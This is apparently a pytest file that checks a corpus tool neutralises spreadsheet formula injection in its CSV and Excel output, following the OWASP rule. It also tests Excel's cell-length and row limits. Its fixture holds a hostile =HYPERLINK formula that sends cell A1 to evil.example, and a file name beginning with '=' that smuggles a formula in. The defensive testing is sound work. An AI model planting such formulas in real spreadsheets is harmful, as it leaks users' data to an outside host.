"""CSV for the tables that fit in a spreadsheet, the tables.xlsx workbook, and no cell a formula."""

from __future__ import annotations

import pandas as pd
import pytest

from analysis import schema
from analysis.cli import main
from analysis.corpus import build, read_tables, write_tables
from analysis.corpus import tables_io
from analysis.corpus.cells import neutralise
from analysis.corpus.tables_io import csv_fits, csv_left_out

HOSTILE = (
    "记者：=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")\n"
    "张三：+1 是我的回答。\n"
    "记者：-2+3 对吗？\n"
    "张三：@SUM(1,1) 不对。\n"
)


@pytest.fixture
def hostile(tmp_path):
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "=cmd.txt").write_text(HOSTILE, encoding="utf-8")
    return raw


def test_neutralise_follows_the_owasp_rule():
    assert [neutralise(s) for s in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a=b", "", "'=x", "１"]] == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "a=b", "", "'=x", "１"]


def test_csv_cells_are_neutralised_and_parquet_keeps_the_text(hostile, tmp_path):
    tables = build(hostile, resources=None)
    assert list(tables["turns"].text) == ['=HYPERLINK("http://evil.example/?leak="&A1,"点这里")', "+1 是我的回答。",
                                         "-2+3 对吗？", "@SUM(1,1) 不对。"]
    out = tmp_path / "out"
    write_tables(tables, out)
    back = read_tables(out)
    assert list(back["turns"].text) == list(tables["turns"].text)
    assert set(back["documents"].doc_id) == {"=cmd"}
    csv = pd.read_csv(out / "turns.csv", encoding="utf-8-sig", keep_default_na=False)
    assert list(csv.text) == ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")", "'+1 是我的回答。",
                              "'-2+3 对吗？", "'@SUM(1,1) 不对。"]
    assert set(csv.doc_id) == {"'=cmd"}
    for name in ("documents", "turns", "tokens", "mentions", "exchanges", "topics"):
        df = pd.read_csv(out / f"{name}.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
        cells = [c for col in df.columns for c in df[col]]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], name


def test_the_workbook_has_five_sheets_text_as_text(hostile, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "out"
    written = write_tables(build(hostile, resources=None), out, xlsx=True)
    assert out / "tables.xlsx" in written
    book = openpyxl.load_workbook(out / "tables.xlsx")
    assert book.sheetnames == ["documents", "turns", "exchanges", "topics", "mentions"]
    turns = book["turns"]
    last = openpyxl.utils.get_column_letter(len(schema.TURNS))  # every column of the turns table
    assert turns.freeze_panes == "A2" and turns.auto_filter.ref == f"A1:{last}5"
    header = [c.value for c in turns[1]]
    assert header[:7] == ["doc_id", "turn_id", "exchange_id", "role", "speaker", "speaker_label", "text"]
    rows = [[c.value for c in r] for r in turns.iter_rows(min_row=2)]
    assert [r[6] for r in rows] == ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")", "'+1 是我的回答。",
                                    "'-2+3 对吗？", "'@SUM(1,1) 不对。"]
    assert [r[0] for r in rows] == ["'=cmd"] * 4 and [r[1] for r in rows] == [0, 1, 2, 3]
    assert turns.column_dimensions["G"].width > turns.column_dimensions["B"].width >= 6
    for sheet in book:
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], sheet.title


def test_a_cell_longer_than_excel_allows_is_cut_and_said(tmp_path, caplog):
    openpyxl = pytest.importorskip("openpyxl")
    docs = pd.DataFrame({"doc_id": ["a"], "text": ["字" * 40000]})
    write_tables({"documents": docs}, tmp_path / "out", xlsx=True)
    cell = openpyxl.load_workbook(tmp_path / "out" / "tables.xlsx")["documents"]["B2"].value
    assert len(cell) == 32767 and cell.endswith("字…")
    assert "1 cell(s) of sheet documents cut to Excel's 32,767 characters" in caplog.text
    assert len(read_tables(tmp_path / "out")["documents"].text[0]) == 40000


def test_csv_only_for_tables_that_fit_in_a_spreadsheet():
    assert csv_fits(1_048_575) and not csv_fits(1_048_576)  # with the header row: Excel's 1,048,576
    big = {"tokens": pd.DataFrame({"a": range(3)}), "turns": pd.DataFrame({"a": range(1)})}
    assert csv_left_out(big, "all") == [] and csv_left_out(big, "none") == []
    with pytest.raises(ValueError, match="choose one of fit, all, none"):
        csv_left_out(big, "some")


def test_build_says_which_csv_it_left_out_and_how_to_force_it(raw_dir, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(tables_io, "EXCEL_ROWS", 1000)  # the seeds have 3,793 tokens, 38 turns
    out = tmp_path / "out"
    assert main(["build", "--raw", str(raw_dir), "--out", str(out), "--no-cache"]) == 0
    said = capsys.readouterr().out
    assert "left out tokens.csv: 3,793 rows, more than a spreadsheet holds" in said
    assert "`analysis build --csv all` writes it anyway, `--csv none` writes no CSV" in said
    names = {p.name for p in out.iterdir()}
    assert "tokens.parquet" in names and "tokens.csv" not in names and "turns.csv" in names
    assert main(["build", "--raw", str(raw_dir), "--out", str(out), "--no-cache", "--csv", "all"]) == 0
    assert "left out" not in capsys.readouterr().out and (out / "tokens.csv").is_file()
    assert main(["build", "--raw", str(raw_dir), "--out", str(out), "--no-cache", "--csv", "none"]) == 0
    assert not list(out.glob("*.csv")) and len(list(out.glob("*.parquet"))) == 7
